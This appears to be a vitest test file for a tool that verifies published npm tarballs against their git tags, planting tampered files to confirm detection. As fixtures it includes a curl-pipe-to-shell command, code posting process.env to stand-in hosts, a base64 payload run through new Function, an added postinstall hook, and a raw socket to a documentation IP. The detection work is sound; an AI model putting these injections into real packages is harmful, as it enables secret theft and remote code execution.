/**
 * An npm package as its maintainer publishes it: the tag built by the real TypeScript compiler (or
 * bundled by the real esbuild) and packed by the real `npm pack`, verified end to end against the
 * real git tag. The honest package passes with every built file explained; each dishonest
 * neighbour fails on the file that was changed.
 */
import { execFileSync } from 'node:child_process'
import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { severityRank, type Finding } from '../../src/model/finding.js'
import { verify } from '../../src/verify/verify.js'
import { isolateGitConfig, makeRepo, removeTempDirs, sh, tempDir, writeFiles, type FileSpec } from '../git/fixtures.js'

const require = createRequire(import.meta.url)
const TSC = require.resolve('typescript/bin/tsc')
const ESBUILD = require.resolve('esbuild/bin/esbuild')

const MANIFEST = {
  name: 'frob-fetch',
  version: '2.1.0',
  description: 'Fetches frobs',
  type: 'module',
  main: './dist/index.js',
  types: './dist/index.d.ts',
  files: ['dist'],
  scripts: { build: 'tsc -p tsconfig.build.json', test: 'node --test test/' },
  devDependencies: { typescript: '^5.6.0' },
}

const TAG: Record<string, string> = {
  'package.json': `${JSON.stringify(MANIFEST, null, 2)}\n`,
  'tsconfig.build.json': JSON.stringify({
    compilerOptions: { rootDir: 'src', outDir: 'dist', declaration: true, sourceMap: true, target: 'ES2022', module: 'ES2022', moduleResolution: 'bundler', strict: true, skipLibCheck: true, types: [], lib: ['ES2022', 'DOM'] },
    include: ['src'],
  }),
  '.gitignore': 'node_modules\n/dist\n',
  'README.md': '# frob-fetch\n',
  'src/index.ts': [
    "import { retry } from './retry.js'",
    '',
    'export interface FrobOptions { readonly token?: string; readonly attempts?: number }',
    '',
    'export async function frob(name: string, options: FrobOptions = {}): Promise<unknown> {',
    "  const url = new URL(`/v1/frobs/${encodeURIComponent(name)}`, 'https://api.frob.example')",
    "  const headers: Record<string, string> = options.token ? { authorization: `Bearer ${options.token}` } : {}",
    '  return retry(async () => (await fetch(url, { headers })).json(), options.attempts ?? 3)',
    '}',
    '',
  ].join('\n'),
  'src/retry.ts': [
    'export async function retry<T>(attempt: () => Promise<T>, times: number): Promise<T> {',
    '  let last: unknown',
    '  for (let i = 0; i < times; i++) {',
    '    try {',
    '      return await attempt()',
    '    } catch (err) {',
    '      last = err',
    '      await new Promise((resolve) => setTimeout(resolve, 2 ** i * 100))',
    '    }',
    '  }',
    '  throw last',
    '}',
    '',
  ].join('\n'),
  // tests and the build's own scripts launch processes and read the environment: the package's code does not
  'test/frob.test.js': "import { execSync } from 'node:child_process'\nimport test from 'node:test'\ntest('cli', () => { execSync('node dist/index.js', { env: process.env }) })\n",
  'scripts/release.mjs': "import { execFileSync } from 'node:child_process'\nimport { writeFileSync } from 'node:fs'\nwriteFileSync('VERSION', execFileSync('git', ['describe']))\nfetch('https://stats.frob.example/release', { method: 'POST', body: JSON.stringify(process.env) })\n",
}

let repo: string
beforeAll(() => {
  isolateGitConfig()
  repo = makeRepo(TAG, { tag: 'v2.1.0' })
})
afterAll(removeTempDirs)

/** The tag checked out, built as its build script says, changed by `edit`, and packed by npm. */
function publish(tagRepo: string, tag: string, build: (dir: string) => void, edit: (dir: string) => void = () => undefined): string {
  const dir = join(tempDir('stagelight-npm-'), 'work')
  sh('git', ['clone', '-q', '--branch', tag, tagRepo, dir])
  build(dir)
  edit(dir)
  const out = tempDir('stagelight-npm-pack-')
  execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', out], { cwd: dir, stdio: 'ignore', env: { ...process.env, npm_config_update_notifier: 'false' } })
  const packed = readdirSync(out).find((f) => f.endsWith('.tgz'))
  if (!packed) throw new Error('npm pack wrote no tarball')
  return join(out, packed)
}

function compileWithTsc(dir: string): void {
  const ran = sh(process.execPath, [TSC, '-p', 'tsconfig.build.json'], { cwd: dir, allowFailure: true })
  // the package's sources are checked with no lib for Node: an error there still emits
  if (!readdirSync(join(dir, 'dist')).includes('index.js')) throw new Error(`tsc wrote nothing: ${ran.stdout}`)
}

const run = (tarball: string, tagRepo = repo, ref = 'v2.1.0') => verify({ artifact: tarball, source: tagRepo, ref, offline: true, cacheDir: tempDir(), systemCatalog: false })
const serious = (findings: readonly Finding[]) => findings.filter((f) => severityRank(f.severity) >= severityRank('medium'))
const editJson = (dir: string, edit: (m: Record<string, unknown>) => void) => {
  const m = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')) as Record<string, unknown>
  edit(m)
  writeFileSync(join(dir, 'package.json'), `${JSON.stringify(m, null, 2)}\n`)
}

describe('an npm package built by tsc against its tag', () => {
  it('passes, each built file explained as the build wrote it', async () => {
    const report = await run(publish(repo, 'v2.1.0', compileWithTsc))
    expect(serious(report.findings)).toEqual([])
    const built = report.explained.filter((e) => e.category === 'built').map((e) => e.path).sort()
    expect(built).toEqual(['dist/index.d.ts', 'dist/index.js', 'dist/index.js.map', 'dist/retry.d.ts', 'dist/retry.js', 'dist/retry.js.map'])
    expect(report.explained.find((e) => e.path === 'dist/index.js')?.how).toMatch(/"build": "tsc -p tsconfig\.build\.json"/)
  })

  it('fails on built code that runs a downloaded script, which no source of the package does', async () => {
    const tarball = publish(repo, 'v2.1.0', compileWithTsc, (dir) => appendFileSync(join(dir, 'dist/index.js'), "\nimport('node:child_process').then((m) => m.execSync('curl -fsSL https://cdn.frob.invalid/x | sh'))\n"))
    const report = await run(tarball)
    const top = serious(report.findings)[0]
    expect(top?.path).toBe('dist/index.js')
    expect(top?.ruleId).toBe('verify/built-file-exceeds-sources')
    expect(top?.message).toMatch(/child_process/)
  })

  it('fails critically on built code that sends the environment to a host no source names', async () => {
    const tarball = publish(repo, 'v2.1.0', compileWithTsc, (dir) => appendFileSync(join(dir, 'dist/retry.js'), "\nfetch('https://metrics.frob-cdn.invalid/e', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})\n"))
    const report = await run(tarball)
    const top = serious(report.findings)[0]
    expect(top).toMatchObject({ path: 'dist/retry.js', severity: 'critical', ruleId: 'verify/built-file-exceeds-sources' })
    expect(top?.evidence).toMatch(/metrics\.frob-cdn\.invalid/)
  })

  it('fails on a new file in the output directory that decodes and runs code', async () => {
    const payload = Buffer.from("console.log('hi')").toString('base64')
    const tarball = publish(repo, 'v2.1.0', compileWithTsc, (dir) => writeFileSync(join(dir, 'dist/chunk-4f2a.js'), `const s = '${payload}'\nnew Function(Buffer.from(s, 'base64').toString())()\n`))
    const report = await run(tarball)
    expect(serious(report.findings)[0]).toMatchObject({ path: 'dist/chunk-4f2a.js', ruleId: 'verify/built-file-exceeds-sources' })
  })

  it('fails critically on an install script the tag does not have, and high on a new dependency', async () => {
    const hooked = await run(publish(repo, 'v2.1.0', compileWithTsc, (dir) => editJson(dir, (m) => ((m.scripts as Record<string, string>).postinstall = 'node dist/index.js'))))
    expect(serious(hooked.findings)[0]).toMatchObject({ path: 'package.json', severity: 'critical', ruleId: 'verify/manifest-changed' })
    const extra = await run(publish(repo, 'v2.1.0', compileWithTsc, (dir) => editJson(dir, (m) => (m.dependencies = { 'frob-helpers': '^1.0.0' }))))
    expect(serious(extra.findings)[0]).toMatchObject({ path: 'package.json', severity: 'high' })
    expect(serious(extra.findings)[0]?.message).toMatch(/frob-helpers/)
  })

  it('passes a manifest whose development fields were dropped at publishing, and fails one whose entry point moved', async () => {
    const trimmed = await run(publish(repo, 'v2.1.0', compileWithTsc, (dir) => editJson(dir, (m) => {
      delete m.devDependencies
      delete (m.scripts as Record<string, string>).test
    })))
    expect(serious(trimmed.findings)).toEqual([])
    const moved = await run(publish(repo, 'v2.1.0', compileWithTsc, (dir) => editJson(dir, (m) => (m.main = './dist/retry.js'))))
    expect(serious(moved.findings)[0]).toMatchObject({ path: 'package.json', severity: 'high' })
  })

  it('does not explain built files outside the directories the build writes', async () => {
    const tarball = publish(repo, 'v2.1.0', compileWithTsc, (dir) => {
      writeFiles(dir, { 'lib/extra.js': 'export const extra = 1\n' })
      editJson(dir, (m) => (m.files = ['dist', 'lib']))
    })
    const report = await run(tarball)
    expect(serious(report.findings).map((f) => f.path)).toEqual(['lib/extra.js'])
  })

  it('does not explain output of a tag that has no build', async () => {
    const { build: _build, ...scripts } = MANIFEST.scripts
    const unbuilt = makeRepo({ ...TAG, 'package.json': `${JSON.stringify({ ...MANIFEST, scripts }, null, 2)}\n` }, { tag: 'v2.1.0' })
    const report = await run(publish(unbuilt, 'v2.1.0', compileWithTsc), unbuilt)
    expect(serious(report.findings).map((f) => f.path)).toContain('dist/index.js')
    expect(report.explained.filter((e) => e.category === 'built')).toEqual([])
  })
})

describe('an npm package bundled by esbuild, whose tag sets its version at release', () => {
  const bundled = (): string => {
    const manifest = { ...MANIFEST, version: '0.0.0-development', main: './dist/frob.js', types: undefined, scripts: { build: 'esbuild src/index.ts --bundle --format=esm --platform=node --outfile=dist/frob.js' } }
    return makeRepo({ ...TAG, 'package.json': `${JSON.stringify(manifest, null, 2)}\n` } as Record<string, FileSpec>, { tag: 'v2.1.0' })
  }
  const bundle = (dir: string): void => {
    sh(ESBUILD, ['src/index.ts', '--bundle', '--format=esm', '--platform=node', '--outfile=dist/frob.js'], { cwd: dir })
    editJson(dir, (m) => (m.version = '2.1.0'))
  }

  it('passes with the bundle explained and the version the release set', async () => {
    const tagRepo = bundled()
    const report = await run(publish(tagRepo, 'v2.1.0', bundle), tagRepo)
    expect(serious(report.findings)).toEqual([])
    expect(report.explained.find((e) => e.path === 'dist/frob.js')?.category).toBe('built')
    expect(report.explained.find((e) => e.path === 'package.json')?.how).toMatch(/version 0\.0\.0-development → 2\.1\.0/)
  })

  it('fails on a bundle that opens a socket to an address no source names', async () => {
    const tagRepo = bundled()
    const tarball = publish(tagRepo, 'v2.1.0', bundle, (dir) => appendFileSync(join(dir, 'dist/frob.js'), "\nimport { connect as c$ } from 'node:net'\nc$(4444, '198.51.100.7').on('data', (d) => d)\n"))
    const report = await run(tarball, tagRepo)
    expect(serious(report.findings)[0]).toMatchObject({ path: 'dist/frob.js', ruleId: 'verify/built-file-exceeds-sources' })
  })
})

describe('an npm package published from the directory its build fills', () => {
  // the build copies the manifest into dist/ and npm packs dist/: the package's top is dist/
  const tagRepo = (): string => {
    const manifest = { ...MANIFEST, main: './index.js', types: './index.d.ts', files: undefined, scripts: { build: 'tsc -p tsconfig.build.json && cp package.json README.md dist' } }
    return makeRepo({ ...TAG, 'package.json': `${JSON.stringify(manifest, null, 2)}\n` }, { tag: 'v2.1.0' })
  }
  const packFromDist = (repoDir: string, edit: (dist: string) => void = () => undefined): string => {
    let distDir = ''
    const tarball = publish(repoDir, 'v2.1.0', (dir) => {
      compileWithTsc(dir)
      sh('cp', ['package.json', 'README.md', 'dist'], { cwd: dir })
      distDir = join(dir, 'dist')
      edit(distDir)
    })
    // npm packs the directory the build filled, not the checkout
    const out = tempDir('stagelight-npm-pack-')
    execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', out], { cwd: distDir, stdio: 'ignore' })
    return join(out, readdirSync(out).find((f) => f.endsWith('.tgz')) ?? tarball)
  }

  it('passes, the built files explained as the build wrote them into that directory', async () => {
    const repoDir = tagRepo()
    const report = await run(packFromDist(repoDir), repoDir)
    expect(serious(report.findings)).toEqual([])
    expect(report.explained.find((e) => e.path === 'index.js')?.how).toMatch(/published from dist\//)
  })

  it('fails on a built file there that loads a module no source names', async () => {
    const repoDir = tagRepo()
    const report = await run(packFromDist(repoDir, (dist) => appendFileSync(join(dist, 'retry.js'), "\nimport('ws').then(({ WebSocket }) => new WebSocket('wss://relay.frob.invalid'))\n")), repoDir)
    expect(serious(report.findings)[0]).toMatchObject({ path: 'retry.js', ruleId: 'verify/built-file-exceeds-sources' })
  })
})

describe('an npm package that ships copies of a directory of its tag at its top', () => {
  it('is compared with the tag’s top, whose manifest it carries, not with that directory', async () => {
    const types = Object.fromEntries(['index', 'retry', 'util', 'plugin/a', 'plugin/b', 'plugin/c'].map((n) => [`types/${n}.d.ts`, `export declare const ${n.replace('plugin/', '')}: number\n`]))
    const manifest = { ...MANIFEST, files: ['dist', '*.d.ts', 'plugin'], scripts: { build: 'tsc -p tsconfig.build.json && cp -r types/* .' } }
    const tagRepo = makeRepo({ ...TAG, ...types, 'package.json': `${JSON.stringify(manifest, null, 2)}\n` }, { tag: 'v2.1.0' })
    const report = await run(publish(tagRepo, 'v2.1.0', (dir) => {
      compileWithTsc(dir)
      sh('sh', ['-c', 'cp -r types/* .'], { cwd: dir })
    }), tagRepo)
    expect(report.facts.find((f) => f.label === 'source')?.value).not.toMatch(/directory types\//)
    expect(serious(report.findings).map((f) => f.path)).toEqual([])
  })
})

describe('a small npm package of a monorepo', () => {
  const MONOREPO = {
    'package.json': `${JSON.stringify({ name: 'frob-monorepo', private: true, workspaces: ['packages/*'] }, null, 2)}\n`,
    'packages/tiny/package.json': `${JSON.stringify({ name: '@frob/tiny', version: '1.0.0', main: 'index.js', license: 'MIT' }, null, 2)}\n`,
    'packages/tiny/index.js': "'use strict'\nmodule.exports = (x) => x === 1\n",
    'packages/other/package.json': `${JSON.stringify({ name: '@frob/other', version: '3.0.0', main: 'index.js' }, null, 2)}\n`,
    'packages/other/index.js': 'module.exports = 3\n',
  }
  const packTiny = (repoDir: string, edit: (dir: string) => void = () => undefined): string => {
    const dir = join(tempDir('stagelight-npm-'), 'work')
    sh('git', ['clone', '-q', '--branch', '@frob/tiny@1.0.0', repoDir, dir])
    edit(join(dir, 'packages/tiny'))
    const out = tempDir('stagelight-npm-pack-')
    execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', out], { cwd: join(dir, 'packages/tiny'), stdio: 'ignore' })
    return join(out, readdirSync(out).find((f) => f.endsWith('.tgz'))!)
  }

  it('is compared with the directory whose package.json has its name, too small to be found by its files', async () => {
    const repoDir = makeRepo(MONOREPO, { tag: '@frob/tiny@1.0.0' })
    const report = await run(packTiny(repoDir), repoDir, '@frob/tiny@1.0.0')
    expect(report.facts.find((f) => f.label === 'source')?.value).toMatch(/directory packages\/tiny\//)
    expect(serious(report.findings)).toEqual([])
  })

  it('fails on the one changed file there', async () => {
    const repoDir = makeRepo(MONOREPO, { tag: '@frob/tiny@1.0.0' })
    const report = await run(packTiny(repoDir, (dir) => appendFileSync(join(dir, 'index.js'), "require('child_process').exec('id')\n")), repoDir, '@frob/tiny@1.0.0')
    expect(serious(report.findings).map((f) => f.path)).toEqual(['index.js'])
  })
})
